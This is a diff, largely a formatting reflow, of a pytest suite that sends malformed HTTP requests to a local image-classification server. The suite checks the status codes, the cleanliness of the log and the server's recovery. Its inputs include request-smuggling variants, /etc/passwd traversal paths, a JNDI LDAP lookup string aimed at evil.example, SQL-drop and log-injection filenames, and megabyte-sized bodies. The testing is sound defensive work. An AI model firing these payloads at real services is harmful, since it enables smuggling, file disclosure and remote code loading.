@@ -2,6 +2,7 @@
 
 (Slow bodies, silent connections and headers that never end: test_service_faults.py.)
 """
+
 import json
 import re
 import socket
@@ -13,39 +14,80 @@ from patience import PATIENCE
 
 pytestmark = pytest.mark.slow
 
-FORM = b'--x\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\nhello\r\n--x--\r\n'  # no picture: 415
+FORM = (  # no picture: 415
+    b'--x\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\nhello\r\n--x--\r\n'
+)
 LENGTH = b"Content-Length: %d\r\n" % len(FORM)
 CHUNKED = b"Transfer-Encoding: chunked\r\n"
 CLOSE = b"Connection: close\r\n"
-NEXT = b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n"  # would be answered with 404 if it were taken for a request
+NEXT = (  # would be answered with 404 if it were taken for a request
+    b"GET /nowhere HTTP/1.1\r\nHost: x\r\n\r\n"
+)
 
 
 def chunks(body, size=7):
-    parts = [body[i:i + size] for i in range(0, len(body), size)]
+    parts = [body[i : i + size] for i in range(0, len(body), size)]
     return b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in parts) + b"0\r\n\r\n"
 
 
-def request(headers=b"", body=FORM, line=b"POST /classify HTTP/1.1", host=b"Host: x\r\n",
-            kind=b"multipart/form-data; boundary=x"):
-    return line + b"\r\n" + host + CLOSE + b"Content-Type: " + kind + b"\r\n" + headers + b"\r\n" + body
+def request(
+    headers=b"",
+    body=FORM,
+    line=b"POST /classify HTTP/1.1",
+    host=b"Host: x\r\n",
+    kind=b"multipart/form-data; boundary=x",
+):
+    return (
+        line
+        + b"\r\n"
+        + host
+        + CLOSE
+        + b"Content-Type: "
+        + kind
+        + b"\r\n"
+        + headers
+        + b"\r\n"
+        + body
+    )
 
 
 def get(line, headers=b""):
     return request(headers, b"", line)
 
 
-LENGTHS = {"letters": b"abc", "a negative number": b"-1", "a sign": b"+88", "a hexadecimal number": b"0x58", "nothing": b"",
-           "two numbers": b"88, 88", "an underscore": b"8_8", "a superscript": b"\xb2", "five thousand digits": b"9" * 5000,
-           "a space": b"8 8"}
+LENGTHS = {
+    "letters": b"abc",
+    "a negative number": b"-1",
+    "a sign": b"+88",
+    "a hexadecimal number": b"0x58",
+    "nothing": b"",
+    "two numbers": b"88, 88",
+    "an underscore": b"8_8",
+    "a superscript": b"\xb2",
+    "five thousand digits": b"9" * 5000,
+    "a space": b"8 8",
+}
 SMUGGLED = {  # a proxy might see one request in each of these, and the server behind it two
     "two lengths that differ": (400, request(LENGTH + b"Content-Length: 3\r\n")),
     "two lengths that are the same": (400, request(LENGTH + LENGTH)),
     "a length and chunks": (400, request(LENGTH + CHUNKED, chunks(FORM))),
-    "chunks and a length that hides a request": (400, request(b"Content-Length: 5\r\n" + CHUNKED, b"0\r\n\r\n" + NEXT)),
+    "chunks and a length that hides a request": (
+        400,
+        request(b"Content-Length: 5\r\n" + CHUNKED, b"0\r\n\r\n" + NEXT),
+    ),
     "chunks under two names": (400, request(CHUNKED + CHUNKED, chunks(FORM))),
-    "chunks that are no chunks in the end": (400, request(b"Transfer-Encoding: chunked, identity\r\n", chunks(FORM))),
-    "a coding that is almost chunked": (501, request(b"Transfer-Encoding: xchunked\r\n", chunks(FORM))),
-    "chunked behind a vertical tab": (400, request(b"Transfer-Encoding: \x0bchunked\r\n", chunks(FORM))),
+    "chunks that are no chunks in the end": (
+        400,
+        request(b"Transfer-Encoding: chunked, identity\r\n", chunks(FORM)),
+    ),
+    "a coding that is almost chunked": (
+        501,
+        request(b"Transfer-Encoding: xchunked\r\n", chunks(FORM)),
+    ),
+    "chunked behind a vertical tab": (
+        400,
+        request(b"Transfer-Encoding: \x0bchunked\r\n", chunks(FORM)),
+    ),
     "a space before the colon": (400, request(b"Transfer-Encoding : chunked\r\n" + LENGTH)),
     "chunks in HTTP/1.0": (400, request(CHUNKED, chunks(FORM), b"POST /classify HTTP/1.0")),
     "a length with an underscore in its name": (415, request(LENGTH + b"Content_Length: 3\r\n")),
@@ -54,13 +96,23 @@ SMUGGLED = {  # a proxy might see one request in each of these, and the server b
     "two hosts": (400, request(LENGTH, host=b"Host: x\r\nHost: y\r\n")),
 }
 CHUNKS = {
-    "chunks": (415, request(CHUNKED, chunks(FORM))), "chunks of one byte": (415, request(CHUNKED, chunks(FORM, 1))),
+    "chunks": (415, request(CHUNKED, chunks(FORM))),
+    "chunks of one byte": (415, request(CHUNKED, chunks(FORM, 1))),
     "a size of letters": (400, request(CHUNKED, b"zz\r\nhello\r\n0\r\n\r\n")),
     "a negative size": (400, request(CHUNKED, b"-5\r\nhello\r\n0\r\n\r\n")),
     "a size that is too small": (400, request(CHUNKED, b"3\r\nhello\r\n0\r\n\r\n")),
-    "a size of a million digits": (400, request(CHUNKED, b"0" * 1_000_000 + b"5\r\nhello\r\n0\r\n\r\n")),
-    "an extension of a megabyte": (400, request(CHUNKED, b"5;" + b"a" * 1_000_000 + b"\r\nhello\r\n0\r\n\r\n")),
-    "a trailer of a megabyte": (400, request(CHUNKED, chunks(FORM)[:-2] + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n")),
+    "a size of a million digits": (
+        400,
+        request(CHUNKED, b"0" * 1_000_000 + b"5\r\nhello\r\n0\r\n\r\n"),
+    ),
+    "an extension of a megabyte": (
+        400,
+        request(CHUNKED, b"5;" + b"a" * 1_000_000 + b"\r\nhello\r\n0\r\n\r\n"),
+    ),
+    "a trailer of a megabyte": (
+        400,
+        request(CHUNKED, chunks(FORM)[:-2] + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n"),
+    ),
     "twenty megabytes": (413, request(CHUNKED, chunks(bytes(20_000_000), 65536))),
 }
 HEADERS = {
@@ -76,35 +128,70 @@ HEADERS = {
     "an expectation that nobody knows": (417, request(LENGTH + b"Expect: miracles\r\n")),
     "a boundary that is missing": (400, request(LENGTH, kind=b"multipart/form-data")),
     "an empty boundary": (400, request(LENGTH, kind=b"multipart/form-data; boundary=")),
-    "a boundary of 7 kB": (400, request(LENGTH, kind=b"multipart/form-data; boundary=" + b"a" * 7000)),
+    "a boundary of 7 kB": (
+        400,
+        request(LENGTH, kind=b"multipart/form-data; boundary=" + b"a" * 7000),
+    ),
     "a boundary of no text": (400, request(LENGTH, kind=b"multipart/form-data; boundary=\xff\xfe")),
-    "a charset of another age": (415, request(LENGTH, kind=b"multipart/form-data; boundary=x; charset=utf-7")),
+    "a charset of another age": (
+        415,
+        request(LENGTH, kind=b"multipart/form-data; boundary=x; charset=utf-7"),
+    ),
     "a compressed body that is none": (415, request(LENGTH + b"Content-Encoding: gzip\r\n")),
-    "another method by header": (415, request(LENGTH + b"X-HTTP-Method-Override: GET\r\nForwarded: for=x\r\n")),
-    "another path by header": (415, request(LENGTH + b"SCRIPT_NAME: /x\r\nPATH_INFO: /metrics\r\n")),
+    "another method by header": (
+        415,
+        request(LENGTH + b"X-HTTP-Method-Override: GET\r\nForwarded: for=x\r\n"),
+    ),
+    "another path by header": (
+        415,
+        request(LENGTH + b"SCRIPT_NAME: /x\r\nPATH_INFO: /metrics\r\n"),
+    ),
 }
 LINES = {
-    "an unknown method": (405, get(b"JUNK /healthz HTTP/1.1")), "TRACE": (405, get(b"TRACE /healthz HTTP/1.1")),
-    "small letters": (400, get(b"get /healthz HTTP/1.1")), "CONNECT": (404, get(b"CONNECT evil.example:443 HTTP/1.1")),
-    "another server's address": (415, request(LENGTH, line=b"POST http://evil.example/classify HTTP/1.1")),
-    "the folder above": (404, get(b"GET /../../../../etc/passwd HTTP/1.1")), "a star": (404, get(b"OPTIONS * HTTP/1.1")),
+    "an unknown method": (405, get(b"JUNK /healthz HTTP/1.1")),
+    "TRACE": (405, get(b"TRACE /healthz HTTP/1.1")),
+    "small letters": (400, get(b"get /healthz HTTP/1.1")),
+    "CONNECT": (404, get(b"CONNECT evil.example:443 HTTP/1.1")),
+    "another server's address": (
+        415,
+        request(LENGTH, line=b"POST http://evil.example/classify HTTP/1.1"),
+    ),
+    "the folder above": (404, get(b"GET /../../../../etc/passwd HTTP/1.1")),
+    "a star": (404, get(b"OPTIONS * HTTP/1.1")),
     "the folder above, escaped": (404, get(b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1")),
-    "an escape that is none": (404, get(b"GET /%zz%ff HTTP/1.1")), "a zero byte": (400, get(b"GET /health\0z HTTP/1.1")),
+    "an escape that is none": (404, get(b"GET /%zz%ff HTTP/1.1")),
+    "a zero byte": (400, get(b"GET /health\0z HTTP/1.1")),
     "two slashes": (415, request(LENGTH, line=b"POST //classify HTTP/1.1")),
-    "an escaped zero byte": (404, get(b"GET /healthz%00 HTTP/1.1")), "HTTP/9.9": (400, get(b"GET /healthz HTTP/9.9")),
-    "HTTP/0.9": (400, b"GET /healthz\r\n\r\n"), "HTTP/2": (400, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
-    "a proxy's greeting": (400, b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + get(b"GET /healthz HTTP/1.1")),
-    "noise": (400, bytes(range(256)) * 10), "nothing but empty lines": (400, b"\r\n" * 1000),
+    "an escaped zero byte": (404, get(b"GET /healthz%00 HTTP/1.1")),
+    "HTTP/9.9": (400, get(b"GET /healthz HTTP/9.9")),
+    "HTTP/0.9": (400, b"GET /healthz\r\n\r\n"),
+    "HTTP/2": (400, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    "a proxy's greeting": (
+        400,
+        b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + get(b"GET /healthz HTTP/1.1"),
+    ),
+    "noise": (400, bytes(range(256)) * 10),
+    "nothing but empty lines": (400, b"\r\n" * 1000),
     "a text that is no query": (200, get(b"GET /healthz?details=%ff%fe&&&=&details[]=1 HTTP/1.1")),
     "a body where none belongs": (200, request(LENGTH, line=b"GET /healthz HTTP/1.1")),
 }
-ALL = {**{f"a length of {what}": (400, request(b"Content-Length: " + value + b"\r\n")) for what, value in LENGTHS.items()},
-       **SMUGGLED, **CHUNKS, **HEADERS, **LINES}
+ALL = {
+    **{
+        f"a length of {what}": (400, request(b"Content-Length: " + value + b"\r\n"))
+        for what, value in LENGTHS.items()
+    },
+    **SMUGGLED,
+    **CHUNKS,
+    **HEADERS,
+    **LINES,
+}
 
 
 @pytest.fixture(scope="module")
 def live(tmp_path_factory):
-    server = Live(tmp_path_factory.mktemp("http"), BODY_TIMEOUT_S="4")  # ten times what the largest body here takes
+    server = Live(
+        tmp_path_factory.mktemp("http"), BODY_TIMEOUT_S="4"
+    )  # ten times what the largest body here takes
     yield server
     server.stop()
 
@@ -116,7 +203,9 @@ def ask(live, data, quiet=PATIENCE):
     with socket.create_connection((host, int(port)), timeout=PATIENCE) as connection:
         try:
             connection.sendall(data)
-        except OSError:  # refused before it was all sent; the answer, if any, is still there to be read
+        except (
+            OSError
+        ):  # refused before it was all sent; the answer, if any, is still there to be read
             pass
         try:
             while part := connection.recv(65536):
@@ -148,10 +237,21 @@ def test_a_strange_request_is_answered_once_with_the_fitting_status(live, what):
     assert live.session.get(f"{live.url}/healthz", timeout=PATIENCE).status_code == 200
 
 
-@pytest.mark.parametrize("data", [get(b"GET /healthz TOKEN HTTP/1.1"), get(b"GET /healthz TOKEN"), get(b"GE(TOKEN / HTTP/1.1"),
-                                  request(b"Authorization : Bearer TOKEN\r\n"), request(b"X: TOKEN\0\r\n"),
-                                  request(b"TOKEN\r\n"), request(CHUNKED, b"TOKEN\r\n")])
-def test_what_cannot_be_parsed_is_named_and_its_bytes_come_neither_into_the_answer_nor_into_the_log(live, data):
+@pytest.mark.parametrize(
+    "data",
+    [
+        get(b"GET /healthz TOKEN HTTP/1.1"),
+        get(b"GET /healthz TOKEN"),
+        get(b"GE(TOKEN / HTTP/1.1"),
+        request(b"Authorization : Bearer TOKEN\r\n"),
+        request(b"X: TOKEN\0\r\n"),
+        request(b"TOKEN\r\n"),
+        request(CHUNKED, b"TOKEN\r\n"),
+    ],
+)
+def test_what_cannot_be_parsed_is_named_and_its_bytes_come_neither_into_the_answer_nor_into_the_log(
+    live, data
+):
     before = live.log.stat().st_size
     answer = ask(live, data)
     assert statuses(answer) == [400] and b"malformed" in answer and b"TOKEN" not in answer
@@ -159,8 +259,15 @@ def test_what_cannot_be_parsed_is_named_and_its_bytes_come_neither_into_the_answ
     assert b"TOKEN" not in live.log.read_bytes()[before:]
 
 
-@pytest.mark.parametrize("line, status", [(b"POST /nowhere-either HTTP/1.1", 404), (b"POST /healthz HTTP/1.1", 405),
-                                          (b"GET /healthz HTTP/1.1", 200), (b"POST /feedback HTTP/1.1", 403)])
+@pytest.mark.parametrize(
+    "line, status",
+    [
+        (b"POST /nowhere-either HTTP/1.1", 404),
+        (b"POST /healthz HTTP/1.1", 405),
+        (b"GET /healthz HTTP/1.1", 200),
+        (b"POST /feedback HTTP/1.1", 403),
+    ],
+)
 def test_a_body_that_nobody_reads_is_not_taken_for_the_next_request(live, line, status):
     head = line + b"\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(NEXT)
     assert statuses(ask(live, head + NEXT + get(b"GET /readyz HTTP/1.1"))) == [status, 200]
@@ -168,7 +275,9 @@ def test_a_body_that_nobody_reads_is_not_taken_for_the_next_request(live, line, 
 
 def test_a_body_that_is_too_long_to_be_read_is_not_taken_for_the_next_request(live):
     body, before = NEXT * (11_000_000 // len(NEXT)), live.log.stat().st_size
-    assert statuses(ask(live, request(b"Content-Length: %d\r\n" % len(body), body).replace(CLOSE, b""), quiet=1)) == [413]
+    assert statuses(
+        ask(live, request(b"Content-Length: %d\r\n" % len(body), body).replace(CLOSE, b""), quiet=1)
+    ) == [413]
     assert [line["status"] for line in log(live, before)] == [413]
 
 
@@ -178,7 +287,10 @@ def test_who_asks_before_sending_is_told_to_go_on(live):
 
 
 def test_tls_on_the_plain_port_is_cut_off(live):
-    assert statuses(ask(live, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200))) in ([], [400])
+    assert statuses(ask(live, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200))) in (
+        [],
+        [400],
+    )
 
 
 def test_a_body_shorter_than_announced_is_a_408_and_not_a_picture(live):
@@ -188,17 +300,38 @@ def test_a_body_shorter_than_announced_is_a_408_and_not_a_picture(live):
     assert statuses(ask(live, data)) == [408]
 
 
-NAMES = [b'a\\r\\n{"event": "verdict"}', b"a\n{}", b"../../../etc/passwd", b"a\x1b[31m", b"\xff\xfe", b"%0d%0a{}", b"a" * 5000,
-         b"a\xe2\x80\xa8b", b"'; DROP TABLE x; --", b"C:\\boot.ini", b"${jndi:ldap://evil.example/a}"]
+NAMES = [
+    b'a\\r\\n{"event": "verdict"}',
+    b"a\n{}",
+    b"../../../etc/passwd",
+    b"a\x1b[31m",
+    b"\xff\xfe",
+    b"%0d%0a{}",
+    b"a" * 5000,
+    b"a\xe2\x80\xa8b",
+    b"'; DROP TABLE x; --",
+    b"C:\\boot.ini",
+    b"${jndi:ldap://evil.example/a}",
+]
 
 
 @pytest.mark.parametrize("name", NAMES)
-@pytest.mark.parametrize("field", [b'name="image"; filename="%s"', b'name="image"; filename="a"; filename*=utf-8\'\'%s',
-                                   b'name="%s"; filename="a"'])
+@pytest.mark.parametrize(
+    "field",
+    [
+        b'name="image"; filename="%s"',
+        b'name="image"; filename="a"; filename*=utf-8\'\'%s',
+        b'name="%s"; filename="a"',
+    ],
+)
 def test_no_name_comes_into_the_log_or_breaks_its_lines(live, name, field):
     before = live.log.stat().st_size
     body = FORM.replace(b'name="image"; filename="a"', field % name)
-    assert set(statuses(ask(live, request(b"Content-Length: %d\r\n" % len(body), body)))) <= {400, 413, 415}
+    assert set(statuses(ask(live, request(b"Content-Length: %d\r\n" % len(body), body)))) <= {
+        400,
+        413,
+        415,
+    }
     assert {line["event"] for line in log(live, before)} <= {"request", "image_error"}
     for word in (b"evil.example", b"passwd", b"DROP", b"boot.ini", b"aaaaa", b"\x1b"):
         assert word not in live.log.read_bytes()[before:]
@@ -210,10 +343,19 @@ def test_after_all_this_it_is_as_it_was(live, photos):
     before = resident(live)
     for _, data in ALL.values():
         ask(live, data)
-    assert live.post(photos["china.jpg"].read_bytes()).json() == first and resident(live) - before < 40
-    assert not [line for line in log(live) if line["event"] == "bug" or line["level"] == "critical" or line.get("status") == 500]
+    assert (
+        live.post(photos["china.jpg"].read_bytes()).json() == first and resident(live) - before < 40
+    )
+    assert not [
+        line
+        for line in log(live)
+        if line["event"] == "bug" or line["level"] == "critical" or line.get("status") == 500
+    ]
 
 
 def resident(live):
     text = live.session.get(f"{live.url}/metrics", timeout=PATIENCE).text
-    return float(re.search(r"^process_resident_memory_bytes (\S+)$", text, re.MULTILINE).group(1)) / 1e6
+    return (
+        float(re.search(r"^process_resident_memory_bytes (\S+)$", text, re.MULTILINE).group(1))
+        / 1e6
+    )
